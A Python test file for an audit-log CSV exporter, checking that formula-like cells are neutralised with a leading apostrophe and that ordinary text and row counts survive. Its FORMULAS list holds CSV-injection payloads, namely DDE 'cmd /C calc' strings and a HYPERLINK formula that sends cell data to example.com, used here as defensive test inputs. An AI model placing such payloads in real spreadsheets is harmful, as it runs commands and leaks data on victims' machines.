"""CSV of the audit: read back as it was, and nothing that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from solo_trio.model.audit import VIEW, AuditEntry, KeptEntry
from solo_trio.operations import audit_csv

FORMULAS = (
    '=cmd|" /C calc"!A0',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
    '=HYPERLINK("http://example.com?x="&A1,"ok")',
)
TEXTS = (
    "",
    "plain",
    'with "quotes"',
    "a,b;c",
    "line\r\nbreak",
    "\u00fc\u2603\U0001f600",
    " =1",
    "'=1",
    "\x1b[31mred",
    "a\0b",
)


def view(**fields: Any) -> dict[str, Any]:
    return KeptEntry(7, AuditEntry(0, "deploy", "201", 1_500)).view() | fields


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def test_a_table() -> None:
    text = audit_csv.header() + audit_csv.rows([view(subject="calc"), view(id=8)])
    assert text == (
        "id,at,tenant_id,credential,operation,subject,outcome,duration_ms,request_id,peer\r\n"
        "7,1970-01-01T00:00:00.000000Z,,,deploy,calc,201,1.5,,\r\n"
        "8,1970-01-01T00:00:00.000000Z,,,deploy,,201,1.5,,\r\n"
    )


@pytest.mark.parametrize("name", [name for name in VIEW if name not in ("id", "duration_ms")])
@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(name: str, text: str) -> None:
    [row] = read(audit_csv.header() + audit_csv.rows([view(**{name: text})]))
    assert row[name] == "'" + text
    assert not any(cell.startswith(tuple("=+-@\t\r\n")) for cell in row.values())


@pytest.mark.parametrize("text", TEXTS)
def test_other_texts_stay_as_they_are(text: str) -> None:
    [row] = read(audit_csv.header() + audit_csv.rows([view(subject=text)]))
    assert row["subject"] == text


@given(st.lists(st.dictionaries(st.sampled_from(["subject", "peer", "request_id"]), st.text(), max_size=3), max_size=5))
def test_rows_and_cells_are_never_more_than_there_were(more: list[dict[str, str]]) -> None:
    text = audit_csv.header() + audit_csv.rows(view(**each) for each in more)
    rows = read(text)
    assert len(rows) == len(more)
    for row, each in zip(rows, more, strict=True):
        assert row.keys() == set(VIEW) and None not in row.values()
        for name, value in each.items():
            assert row[name] in (value, "'" + value) and not row[name].startswith(("=", "+", "-", "@"))
